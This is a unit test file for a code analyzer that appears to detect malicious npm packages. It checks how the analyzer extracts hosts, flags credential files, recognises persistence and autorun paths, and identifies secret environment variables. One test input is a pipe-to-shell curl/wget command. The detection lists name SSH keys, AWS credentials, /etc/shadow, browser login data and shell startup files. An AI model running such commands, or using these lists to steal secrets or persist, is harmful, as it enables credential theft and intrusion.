import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { hostIn, hostsIn } from '../../../src/analyze/js/hosts.ts'
import { autoRunOf } from '../../../src/analyze/js/places.ts'
import { isMetadataHost, secretPath } from '../../../src/analyze/js/secrets.ts'
import { isKey, sourceOf } from '../../../src/analyze/js/sources.ts'
import { hole } from '../../../src/analyze/js/value.ts'
import { ownHostsOf } from '../../../src/analyze/own-hosts.ts'

test('the host of a URL or of a bare name, and what is known of it where a part is computed', () => {
  assert.is(hostIn('https://User@Drop.Invalid:8443/a?b'), 'drop.invalid')
  assert.is(hostIn('203.0.113.7'), '203.0.113.7')
  assert.is(hostIn(`https://${hole}.collector.invalid/x`), '.collector.invalid')
  assert.is(hostIn(`https://${hole}`), '')
  assert.is(hostIn('./lib/index.js'), '')
  assert.equal(hostsIn('curl -s https://a.invalid/x | sh; wget http://b.invalid'), ['a.invalid', 'b.invalid'])
})

test('places that hold credentials, and names that only look like them', () => {
  for (const path of [
    '~/.npmrc',
    '~/.ssh/id_rsa',
    '~/.aws/credentials',
    '/etc/shadow',
    `${hole}/AppData/Local/Google/Chrome/User Data/Default/Login Data`,
  ]) {
    assert.type(secretPath(path), 'string', path)
  }
  for (const path of ['./my.ssh.js', './lib/cookies.js', './docs/npmrc.md', './keystore.ts', '/tmp/a'])
    assert.is(secretPath(path), undefined, path)
  assert.ok(isMetadataHost('169.254.169.254'))
})

test('places that something runs or obeys by itself', () => {
  assert.is(autoRunOf('~/.zshrc')?.what, 'persist')
  assert.is(autoRunOf(`${hole}/.vscode/tasks.json`)?.name, 'editor')
  assert.is(autoRunOf('../node_modules/react/index.js')?.what, 'package')
  assert.is(autoRunOf('./node_modules/.cache/a/b.js'), undefined)
  assert.is(autoRunOf('./src/profile.ts'), undefined)
  for (const path of [
    '~/.ssh/config',
    '/etc/sudoers.d/90-npm',
    '~/.vscode/extensions/a.b-1.0.0/main.js',
    '~/.local/bin/git',
    '/etc/opt/chrome/policies/managed/a.json',
  ])
    assert.is(autoRunOf(path)?.what, 'persist', path)
  for (const path of ['./../../.claude', './.npmrc', '$GITHUB_ENV']) assert.is(autoRunOf(path)?.what, 'autorun', path)
  for (const path of [
    '~/.local/bin/our-tool',
    './.vscode/extensions.json',
    './lib/.claude-plugin',
    `${hole}/.npmrc`,
    './config',
  ])
    assert.is(autoRunOf(path), undefined, path)
})

test('variables that hold secrets, name the user, or are settings of the package manager', () => {
  assert.is(sourceOf('process.env.GITHUB_TOKEN')?.kind, 'env-secret')
  assert.is(sourceOf('process.env.USERNAME')?.kind, 'env-user')
  assert.is(sourceOf('process.env.npm_config_registry')?.kind, 'registry')
  assert.is(sourceOf('process.env.NODE_ENV')?.kind, 'env-name')
  assert.ok(isKey('secretKey') && isKey('mnemonic') && !isKey('publicKey') && !isKey('key'))
})

test('the hosts that a manifest names as its home; nothing of what it does not', () => {
  const text = JSON.stringify({
    homepage: 'https://www.tool.invalid/',
    repository: { url: 'git+https://github.com/a/b.git' },
    binary: { host: 'https://cdn.tool.invalid' },
  })
  assert.equal(ownHostsOf(text), ['www.tool.invalid', 'github.com', 'cdn.tool.invalid'])
  assert.equal(ownHostsOf('not json'), [])
})

test.run()
